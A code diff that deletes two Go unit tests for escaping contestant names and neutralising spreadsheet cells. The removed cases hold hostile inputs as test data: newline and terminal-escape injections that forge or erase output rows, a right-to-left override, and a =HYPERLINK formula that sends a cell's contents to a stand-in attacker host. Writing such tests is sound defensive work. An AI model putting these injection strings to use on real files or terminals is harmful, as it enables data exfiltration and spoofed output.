@@ -129,38 +129,6 @@ func TestDiscoverUntrusted(t *testing.T) {
 	}
 }
 
-func TestEscape(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"alice", "alice"},
-		{"张伟", "张伟"},
-		{"eve\n   1  mallory  100", `eve\n   1  mallory  100`},
-		{"x\x1b[1A\x1b[2Koscar", `x\x1b[1A\x1b[2Koscar`},
-		{"trudy\u202eevil", `trudy\u202eevil`},
-		{"back\\slash", `back\\slash`},
-		{"bad\xffbyte", `bad\xffbyte`},
-		{"tab\there", `tab\there`},
-	}
-	for _, tc := range tests {
-		if got := Escape(tc.in); got != tc.want {
-			t.Errorf("Escape(%q): got %q, want %q", tc.in, got, tc.want)
-		}
-	}
-}
-
-func TestNeutralCell(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"alice", "alice"},
-		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
-		{"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
-		{"", ""}, {"a=b", "a=b"},
-	}
-	for _, tc := range tests {
-		if got := NeutralCell(tc.in); got != tc.want {
-			t.Errorf("NeutralCell(%q): got %q, want %q", tc.in, got, tc.want)
-		}
-	}
-}
-
 // TestHostileNames ranks contestants whose folder names hold a newline, terminal escapes that
 // erase and rewrite the row above, and a spreadsheet formula: the ranking keeps one line per
 // contestant and no escape sequence, and the CSV one row per contestant and no formula.
